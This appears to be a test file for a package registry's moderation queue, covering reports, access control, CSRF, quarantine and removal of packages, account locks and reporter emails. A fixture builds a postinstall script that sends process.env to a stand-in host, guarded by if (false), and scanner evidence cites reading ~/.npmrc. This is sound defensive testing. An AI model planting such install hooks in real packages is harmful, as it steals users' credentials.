// The report form and the moderation queue over HTTP on both databases: who may see and act on the queue (moderators
// and administrators; anyone else a 404), CSRF on every action, the queue ordered by risk across reports, scanner
// findings and security-form reports, each action applied through the package lifecycle or the account lock, audited
// as an event, and its outcome emailed to the reporters over SMTP.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { queueScanFinding } from '../../src/safety/moderation.ts';
import { createToken } from '../../src/tokens/service.ts';
import { DB_KINDS } from '../helpers/db.ts';
import { body, packTarball, publishDoc } from '../helpers/packages.ts';
import { startRegistry, type TestRegistry } from '../helpers/registry.ts';
import { startSmtp, type Smtp } from '../helpers/smtp.ts';
import { WebClient, csrfIn } from '../helpers/web-client.ts';
import { consumersCaughtUp, eventAbout, eventsAbout, eventually } from '../helpers/events.ts';

const PASSWORD = 'correct-horse-battery';
const DETAILS = 'lib/install.js sends process.env to https://collect.example.invalid on install';

type Items = {
  moderation_items: {
    id: number;
    package: string | null;
    version: string | null;
    source: string;
    status: string;
    resolution: string | null;
    risk: number;
    ref_id: number | null;
  };
};

for (const kind of DB_KINDS) {
  describe(`moderation queue (${kind})`, () => {
    let smtp: Smtp;
    let r: TestRegistry;
    let bob: { id: number; token: string };
    let mallory: { id: number; token: string };
    let mod: WebClient;
    let admin: WebClient;
    let eve: WebClient;
    const items = () => r.store.db.withTables<Items>();

    before(async () => {
      smtp = await startSmtp();
      r = await startRegistry(kind, { 'smtp-url': smtp.url });
      bob = await r.user('bob');
      mallory = await r.user('mallory');
      const modUser = await r.user('mod');
      await r.user('eve');
      await r.store.db.updateTable('users').set({ is_moderator: 1 }).where('id', '=', modUser.id).execute();
      for (const [name, version] of [
        ['evil-lib', '1.0.0'],
        ['evil-lib', '1.0.1'],
        ['other-lib', '1.0.0'],
        ['@mallory/hidden', '1.0.0'],
      ] as const) {
        const res = await r.request('PUT', `/${name.replace('/', '%2f')}`, {
          token: mallory.token,
          body: body(publishDoc({ name, version }, name.startsWith('@') ? { access: 'restricted' } : {})),
        });
        assert.equal(res.status, 201);
      }
      assert.equal(
        (
          await r.request('PUT', '/admin-lib', {
            token: r.adminToken,
            body: body(publishDoc({ name: 'admin-lib', version: '1.0.0' })),
          })
        ).status,
        201,
      );
      mod = new WebClient(r.url);
      admin = new WebClient(r.url);
      eve = new WebClient(r.url);
      assert.equal((await mod.signIn('mod', PASSWORD)).status, 303);
      assert.equal((await admin.signIn('admin', PASSWORD)).status, 303);
      assert.equal((await eve.signIn('eve', PASSWORD)).status, 303);
    });
    after(async () => {
      await r.stop();
      await smtp.stop();
    });

    const apiReport = async (token: string, pkg: string, version: string | null, reason: string) => {
      const res = await r.request('POST', '/-/bulwark/v1/reports', {
        token,
        body: { package: pkg, version, reason, details: DETAILS },
      });
      assert.equal(res.status, 201, res.text);
      return res.json().id as number;
    };
    const itemOf = async (pkg: string, version: string | null) => {
      let q = items()
        .selectFrom('moderation_items')
        .selectAll()
        .where('source', '=', 'report')
        .where('package', '=', pkg)
        .orderBy('id', 'desc');
      q = version === null ? q.where('version', 'is', null) : q.where('version', '=', version);
      return q.executeTakeFirstOrThrow();
    };
    const act = async (client: WebClient, id: number, action: string, reason = '') =>
      client.post(`/-/web/moderation/${id}/${action}`, { _csrf: await client.csrf('/-/web/moderation'), reason });

    it('reports from the web form: sign-in required, CSRF checked, restricted packages invisible, duplicates answered', async () => {
      const anon = new WebClient(r.url);
      const redirected = await anon.get('/-/web/report?package=evil-lib');
      assert.equal(redirected.status, 303);
      assert.match(redirected.location ?? '', /^\/-\/web\/signin\?next=/);

      const bobWeb = new WebClient(r.url);
      assert.equal((await bobWeb.signIn('bob', PASSWORD)).status, 303);
      const form = await bobWeb.get('/-/web/report?package=evil-lib&version=1.0.0');
      assert.equal(form.status, 200);
      assert.match(form.text, /<option value="1\.0\.0" selected>/);
      assert.equal(
        (await bobWeb.get('/-/web/report?package=@mallory/hidden')).status,
        404,
        'a package bob may not read does not exist',
      );
      assert.equal((await bobWeb.get('/-/web/report?package=no-such')).status, 404);

      const fields = { package: 'evil-lib', version: '1.0.0', reason: 'suspicious', details: DETAILS };
      assert.equal((await bobWeb.post('/-/web/report', fields)).status, 403, 'no CSRF token, no report');
      const token = csrfIn(form.text);
      assert.equal(
        (await bobWeb.post('/-/web/report', { ...fields, package: '@mallory/hidden', _csrf: token })).status,
        404,
      );
      const bad = await bobWeb.post('/-/web/report', { ...fields, reason: 'meh', _csrf: token });
      assert.equal(bad.status, 400);
      assert.match(bad.text, /one of malicious/);
      const sent = await bobWeb.post('/-/web/report', { ...fields, _csrf: token });
      assert.equal(sent.status, 201, sent.text);
      assert.match(sent.text, /Your report <strong>#\d+<\/strong> of evil-lib@1\.0\.0 reached the moderators/);
      const again = await bobWeb.post('/-/web/report', { ...fields, _csrf: token });
      assert.equal(again.status, 200);
      assert.match(again.text, /You already reported this/);
      const mine = await bobWeb.get('/-/web/reports');
      assert.match(mine.text, /evil-lib@1\.0\.0/);
      await smtp.waitFor((m) => m.to.includes('bob@example.com') && /received: evil-lib@1\.0\.0/.test(m.subject));
    });

    it('only moderators and administrators see or act on the queue; everyone else gets a 404, CSRF is required', async () => {
      await apiReport(bob.token, 'evil-lib', '1.0.1', 'malicious');
      const item = await itemOf('evil-lib', '1.0.1');
      const anon = new WebClient(r.url);
      assert.equal((await anon.get('/-/web/moderation')).status, 303);
      assert.equal((await anon.post(`/-/web/moderation/${item.id}/dismiss`, {})).status, 403, 'no CSRF token');
      assert.equal((await eve.get('/-/web/moderation')).status, 404);
      assert.equal((await eve.get(`/-/web/moderation/${item.id}`)).status, 404);
      const eveToken = await eve.csrf('/-/web/account');
      assert.equal(
        (await eve.post(`/-/web/moderation/${item.id}/dismiss`, { _csrf: eveToken })).status,
        404,
        'a valid CSRF token is not enough',
      );
      assert.equal((await eve.post(`/-/web/moderation/${item.id}/remove`, { _csrf: eveToken })).status, 404);

      const queue = await mod.get('/-/web/moderation');
      assert.equal(queue.status, 200);
      assert.match(queue.text, /evil-lib@1\.0\.1/);
      assert.equal(
        (await mod.post(`/-/web/moderation/${item.id}/dismiss`, { reason: 'x' })).status,
        403,
        'a moderator without the CSRF token is refused',
      );
      assert.equal(
        (await mod.post(`/-/web/moderation/${item.id}/dismiss`, { _csrf: 'forged', reason: 'x' })).status,
        403,
      );
      assert.equal((await itemOf('evil-lib', '1.0.1')).status, 'open');
      assert.equal((await admin.get('/-/web/moderation')).status, 200);
    });

    it('orders the queue by risk across reports and scanner findings, and shows reports, evidence and the publisher’s activity', async () => {
      await apiReport(bob.token, 'other-lib', '1.0.0', 'spam');
      await r.store.db.transaction().execute((trx) =>
        queueScanFinding(
          trx,
          {
            package: 'other-lib',
            version: '1.0.0',
            risk: 97,
            summary: 'malicious: new install script reads ~/.npmrc',
            evidence: {
              findings: [
                {
                  rule: 'credential-access',
                  file: 'package/install.js',
                  line: 3,
                  evidence: 'fs.readFileSync(home + "/.npmrc")',
                },
              ],
            },
            publisherId: mallory.id,
          },
          Date.now(),
        ),
      );
      const queue = (await mod.get('/-/web/moderation')).text;
      const order = [
        ...queue.matchAll(/<tr class="queue-item">\s*<td><span class="badge risk[^"]*">(\d+)<\/span>/g),
      ].map((m) => Number(m[1]));
      assert.ok(order.length >= 3, queue);
      assert.deepEqual(
        order,
        [...order].sort((a, b) => b - a),
        'highest risk first',
      );
      assert.equal(order[0], 97);
      assert.ok(queue.indexOf('publish scan') < queue.indexOf('1 × spam'));

      const scan = await items()
        .selectFrom('moderation_items')
        .selectAll()
        .where('source', '=', 'scan')
        .executeTakeFirstOrThrow();
      const page = (await mod.get(`/-/web/moderation/${scan.id}`)).text;
      assert.match(page, /Scanner evidence/);
      assert.match(page, /credential-access/);
      assert.match(page, /Publisher: mallory/);
      assert.match(page, /evil-lib@1\.0\.1/, 'the publisher’s other recent publishes are listed');
      const reported = await itemOf('evil-lib', '1.0.1');
      const reportPage = (await mod.get(`/-/web/moderation/${reported.id}`)).text;
      assert.match(reportPage, /malicious<\/span> by bob/);
      assert.ok(reportPage.includes('lib/install.js sends process.env'), 'the reporter’s details');
    });

    it('quarantines, releases and removes through the lifecycle; every action is an event; reporters are emailed the outcome', async () => {
      const item = await itemOf('evil-lib', '1.0.1');
      const q = await act(mod, item.id, 'quarantine', 'posts the environment to a remote host');
      assert.equal(q.status, 303, q.text);
      assert.equal(q.location, `/-/web/moderation/${item.id}?done=quarantine`);
      const packument = async () =>
        (await r.request('GET', '/evil-lib')).json() as {
          versions: Record<string, unknown>;
          'dist-tags': Record<string, string>;
        };
      assert.equal((await packument()).versions['1.0.1'], undefined, 'a quarantined version is not served');
      await smtp.waitFor(
        (m) =>
          m.to.includes('bob@example.com') &&
          /resolved: evil-lib@1\.0\.1/.test(m.subject) &&
          /quarantined/.test(m.text),
      );

      assert.equal((await act(mod, item.id, 'release')).status, 303);
      assert.ok((await packument()).versions['1.0.1'], 'released again');
      assert.equal((await act(mod, item.id, 'remove', 'confirmed credential stealer')).status, 303);
      assert.equal((await packument()).versions['1.0.1'], undefined);
      assert.equal((await r.request('GET', '/evil-lib/-/evil-lib-1.0.1.tgz')).status, 404);
      const removedMail = await smtp.waitFor(
        (m) =>
          m.to.includes('bob@example.com') &&
          /resolved: evil-lib@1\.0\.1/.test(m.subject) &&
          /removed as malicious/.test(m.text),
      );
      assert.match(removedMail.text, /can never be published again/);
      // A removed name@version can never come back.
      assert.notEqual(
        (
          await r.request('PUT', '/evil-lib', {
            token: mallory.token,
            body: body(publishDoc({ name: 'evil-lib', version: '1.0.1' })),
          })
        ).status,
        201,
      );

      const final = await itemOf('evil-lib', '1.0.1');
      assert.equal(final.status, 'resolved');
      assert.equal(final.resolution, 'removed');
      const audit = await r.store.db
        .selectFrom('events')
        .select(['data', 'actor_id'])
        .where('kind', '=', 'moderation.action')
        .where('subject', '=', `moderation-item:${item.id}`)
        .orderBy('seq')
        .execute();
      assert.deepEqual(
        audit.map((e) => JSON.parse(e.data).action),
        ['quarantine', 'release', 'remove'],
      );
      const modId = (
        await r.store.db.selectFrom('users').select('id').where('name', '=', 'mod').executeTakeFirstOrThrow()
      ).id;
      assert.ok(audit.every((e) => e.actor_id === modId));
      const lifecycleEvents = await r.store.db
        .selectFrom('events')
        .select('kind')
        .where('subject', '=', 'evil-lib')
        .where('kind', 'in', ['package.version-quarantined', 'package.version-released', 'package.malicious-removed'])
        .execute();
      assert.equal(lifecycleEvents.length, 3, 'the lifecycle recorded its own events');
      assert.match(
        (await mod.get(`/-/web/moderation/${item.id}`)).text,
        /remove by mod — confirmed credential stealer/,
      );
    });

    it('shows what changed since the previous version: a new install script and the file it runs', async () => {
      const manifest = { name: 'evil-lib', version: '1.0.2', scripts: { postinstall: 'node setup.js' } };
      const tarball = packTarball(manifest, {
        'package/setup.js':
          'if (false) require("https").get("https://collect.example.invalid/" + JSON.stringify(process.env));\n',
      });
      await r.request('PUT', '/evil-lib', { token: mallory.token, body: body(publishDoc(manifest, { tarball })) });
      const item = await items()
        .selectFrom('moderation_items')
        .selectAll()
        .where('package', '=', 'evil-lib')
        .where('version', '=', '1.0.2')
        .executeTakeFirstOrThrow();
      const page = await mod.get(`/-/web/moderation/${item.id}`);
      assert.equal(page.status, 200);
      assert.match(
        page.text,
        /Changes since evil-lib@1\.0\.0/,
        '1.0.1 was removed above: the diff is against what readers could install',
      );
      assert.match(
        page.text,
        /<code>postinstall<\/code><\/td><td><span class="muted">none<\/span><\/td><td>→ node setup\.js/,
      );
      assert.match(page.text, /<span class="badge warn">added<\/span> <code>setup\.js<\/code>/);
      assert.match(page.text, /\+if \(false\) require\(&quot;https&quot;\)/, 'the added file’s lines, escaped');
      assert.match(
        page.text,
        /<nav class="account"><a class="staff" href="\/-\/web\/moderation">Moderation<\/a>/,
        'staff find the queue in the header',
      );
      assert.doesNotMatch(
        (await eve.get('/-/web/account')).text,
        /href="\/-\/web\/moderation"/,
        'others are not shown it',
      );
    });

    it('dismisses once (a second dismissal is a 409) and tells the reporter no action was taken', async () => {
      const item = await itemOf('other-lib', '1.0.0');
      assert.equal(item.source, 'report');
      assert.equal((await act(mod, item.id, 'dismiss', 'just an empty package')).status, 303);
      const twice = await act(mod, item.id, 'dismiss');
      assert.equal(twice.status, 409);
      assert.match(twice.text, /already resolved/);
      await smtp.waitFor(
        (m) =>
          m.to.includes('bob@example.com') &&
          /resolved: other-lib@1\.0\.0/.test(m.subject) &&
          /took no action/.test(m.text),
      );
      const resolved = (await mod.get('/-/web/moderation?status=resolved')).text;
      assert.match(resolved, /other-lib@1\.0\.0/);
    });

    it('locks the publisher and revokes their tokens; a moderator cannot lock an administrator', async () => {
      assert.equal((await r.request('GET', '/-/whoami', { token: mallory.token })).status, 200);
      const scan = await items()
        .selectFrom('moderation_items')
        .selectAll()
        .where('source', '=', 'scan')
        .executeTakeFirstOrThrow();
      const locked = await act(mod, scan.id, 'lock', 'published a credential stealer');
      assert.equal(locked.status, 303, locked.text);
      assert.equal(
        (await r.request('GET', '/-/whoami', { token: mallory.token })).status,
        401,
        'the publisher’s tokens are revoked',
      );
      const user = await r.store.db
        .selectFrom('users')
        .select('disabled_at')
        .where('name', '=', 'mallory')
        .executeTakeFirstOrThrow();
      assert.notEqual(user.disabled_at, null);
      assert.equal((await act(mod, scan.id, 'lock')).status, 409, 'already locked');
      assert.ok(
        await r.store.db
          .selectFrom('events')
          .select('seq')
          .where('kind', '=', 'user.disabled')
          .where('subject', '=', 'mallory')
          .executeTakeFirst(),
        'the account administration recorded it',
      );

      await apiReport(bob.token, 'admin-lib', null, 'suspicious');
      const adminItem = await itemOf('admin-lib', null);
      const page = (await mod.get(`/-/web/moderation/${adminItem.id}`)).text;
      assert.doesNotMatch(page, /Lock admin/);
      assert.equal((await act(mod, adminItem.id, 'lock')).status, 403);
      assert.equal((await r.request('GET', '/-/whoami', { token: r.adminToken })).status, 200);
    });

    it('releases a version the publish scan held back, from the scan finding’s item', async () => {
      assert.equal(
        (
          await r.request('PUT', '/held-lib', {
            token: bob.token,
            body: body(publishDoc({ name: 'held-lib', version: '1.0.0' })),
          })
        ).status,
        201,
      );
      const held = await r.store.db.transaction().execute(async (trx) => {
        // What the publish path does for a malicious verdict: the version stays held and a finding is queued with it.
        await trx
          .updateTable('versions')
          .set({ state: 'held' })
          .where('version', '=', '1.0.0')
          .where('package_id', '=', (eb) => eb.selectFrom('packages').select('id').where('name', '=', 'held-lib'))
          .execute();
        return queueScanFinding(
          trx,
          {
            package: 'held-lib',
            version: '1.0.0',
            risk: 88,
            summary: 'malicious: eval of a decoded payload',
            evidence: { findings: [{ rule: 'obfuscation', file: 'package/index.js' }] },
            publisherId: bob.id,
          },
          Date.now(),
        );
      });
      const page = (await mod.get(`/-/web/moderation/${held}`)).text;
      assert.match(page, /version is held/);
      assert.match(page, /Release held version/);
      assert.doesNotMatch(page, /Quarantine version/);
      assert.equal((await act(mod, held, 'release', 'false positive: a minified bundle')).status, 303);
      const state = await r.store.db
        .selectFrom('versions')
        .innerJoin('packages', 'packages.id', 'versions.package_id')
        .select('versions.state')
        .where('packages.name', '=', 'held-lib')
        .executeTakeFirstOrThrow();
      assert.equal(state.state, 'visible');
      const item = await items()
        .selectFrom('moderation_items')
        .select(['status', 'resolution'])
        .where('id', '=', held)
        .executeTakeFirstOrThrow();
      assert.deepEqual({ ...item }, { status: 'resolved', resolution: 'released' });
      const released = await eventAbout(r.store.db, 'held-lib', 'package.version-released');
      assert.equal(
        JSON.parse(released.data).reason,
        'false positive: a minified bundle',
        'the reason reaches the lifecycle’s event',
      );
    });

    it('resolves reports of a version removed outside the queue and tells their reporters', async () => {
      assert.equal(
        (
          await r.request('PUT', '/gone-lib', {
            token: bob.token,
            body: body(publishDoc({ name: 'gone-lib', version: '1.0.0' })),
          })
        ).status,
        201,
      );
      const eveId = (
        await r.store.db.selectFrom('users').select('id').where('name', '=', 'eve').executeTakeFirstOrThrow()
      ).id;
      const { token } = await createToken(r.store.db, {
        userId: eveId,
        userName: 'eve',
        name: 'report',
        kind: 'publish',
      });
      await apiReport(token, 'gone-lib', '1.0.0', 'malicious');
      // An administrator removes it from the command line (the same lifecycle call), not through the queue.
      await r.app.lifecycle.removeMalicious({ id: null, name: 'operator (command line)' }, 'gone-lib', '1.0.0', {
        reason: 'confirmed by the security team',
      });
      // Nobody opens a moderation page: the removal's event alone resolves the item and tells the reporter.
      await smtp.waitFor(
        (m) =>
          m.to.includes('eve@example.com') &&
          /resolved: gone-lib@1\.0\.0/.test(m.subject) &&
          /removed as malicious/.test(m.text),
      );
      const item = await itemOf('gone-lib', '1.0.0');
      assert.deepEqual(
        { status: item.status, resolution: item.resolution },
        { status: 'resolved', resolution: 'removed' },
      );
      const told = await eventsAbout(r.store.db, 'eve', 'report.resolved');
      assert.equal(told.length, 1, 'the reporter is told once');
      assert.match((await mod.get(`/-/web/moderation/${item.id}`)).text, /removed-elsewhere by registry/);
    });

    it('shows security-form reports to administrators only, and resolves them when answered', async () => {
      const anon = new WebClient(r.url);
      const token = csrfIn((await anon.get('/-/web/security/report')).text);
      assert.equal(
        (
          await anon.post('/-/web/security/report', {
            _csrf: token,
            email: 'researcher@example.org',
            subject: 'Stored XSS in READMEs',
            body: 'A README with a crafted link runs script on the package page.',
          })
        ).status,
        201,
      );
      // The report reaches the queue by itself, before any moderator or administrator opens a page.
      await eventually(
        async () =>
          (await items()
            .selectFrom('moderation_items')
            .select('id')
            .where('source', '=', 'security-form')
            .executeTakeFirst()) !== undefined,
        'the security report reaches the queue',
      );
      const adminQueue = (await admin.get('/-/web/moderation')).text;
      assert.match(adminQueue, /Stored XSS in READMEs/);
      assert.match(adminQueue, /security report/);
      const item = await items()
        .selectFrom('moderation_items')
        .selectAll()
        .where('source', '=', 'security-form')
        .executeTakeFirstOrThrow();
      assert.doesNotMatch(
        (await mod.get('/-/web/moderation')).text,
        /Stored XSS/,
        'moderators do not see reports about the registry itself',
      );
      assert.equal((await mod.get(`/-/web/moderation/${item.id}`)).status, 404);
      assert.equal((await act(mod, item.id, 'dismiss')).status, 404);
      const page = (await admin.get(`/-/web/moderation/${item.id}`)).text;
      assert.match(page, /A README with a crafted link/);
      assert.match(page, /security\/reports#report-\d+/);

      const answerToken = await admin.csrf('/-/web/security/reports');
      assert.equal(
        (
          await admin.post(`/-/web/security/reports/${item.ref_id}/answer`, {
            _csrf: answerToken,
            answer: 'Fixed in 1.2.3, thank you.',
          })
        ).status,
        303,
      );
      const resolution = async () => ({
        ...(await items()
          .selectFrom('moderation_items')
          .select(['status', 'resolution'])
          .where('id', '=', item.id)
          .executeTakeFirstOrThrow()),
      });
      await eventually(async () => (await resolution()).status === 'resolved', 'the answered report leaves the queue');
      assert.deepEqual(await resolution(), { status: 'resolved', resolution: 'answered' });
    });

    it('opening the queue and its items writes nothing: the queue is kept by its event consumer alone', async () => {
      const db = r.store.db;
      assert.equal(
        (
          await r.request('PUT', '/quiet-lib', {
            token: bob.token,
            body: body(publishDoc({ name: 'quiet-lib', version: '1.0.0' })),
          })
        ).status,
        201,
      );
      await apiReport(r.adminToken, 'quiet-lib', '1.0.0', 'suspicious');
      const open = await itemOf('quiet-lib', '1.0.0');
      // Every event consumer has caught up, so none of them writes while the pages are opened.
      await consumersCaughtUp(db);
      // Changes made behind the event stream's back (no event): only a GET that writes would pick them up.
      await db
        .withTables<{
          security_reports: {
            reporter_id: number | null;
            reporter_email: string;
            subject: string;
            body: string;
            status: string;
            answer: string | null;
            answered_by: number | null;
            answered_at: number | null;
            created_at: number;
          };
        }>()
        .insertInto('security_reports')
        .values({
          reporter_id: null,
          reporter_email: 'quiet@example.org',
          subject: 'Written without an event',
          body: 'Only a page that writes would queue this report.',
          status: 'new',
          answer: null,
          answered_by: null,
          answered_at: null,
          created_at: Date.now(),
        })
        .execute();
      await db
        .updateTable('versions')
        .set({ state: 'removed' })
        .where('version', '=', '1.0.0')
        .where('package_id', '=', (eb) => eb.selectFrom('packages').select('id').where('name', '=', 'quiet-lib'))
        .execute();
      const count = async () => {
        const n = async (table: 'events' | 'outbox') =>
          Number(
            (
              await db
                .selectFrom(table)
                .select((eb) => eb.fn.countAll<number>().as('n'))
                .executeTakeFirstOrThrow()
            ).n,
          );
        const q = await items()
          .selectFrom('moderation_items')
          .select((eb) => [eb.fn.countAll<number>().as('n'), eb.fn.max('id').as('max')])
          .executeTakeFirstOrThrow();
        return {
          events: await n('events'),
          outbox: await n('outbox'),
          items: Number(q.n),
          maxItem: Number(q.max),
          quiet: (await itemOf('quiet-lib', '1.0.0')).status,
        };
      };
      const before = await count();
      for (const client of [admin, mod]) {
        assert.equal((await client.get('/-/web/moderation')).status, 200);
        assert.equal((await client.get('/-/web/moderation?status=resolved')).status, 200);
        assert.equal((await client.get(`/-/web/moderation/${open.id}`)).status, 200);
      }
      assert.deepEqual(await count(), before);
      assert.equal(before.quiet, 'open');
    });
  });
}
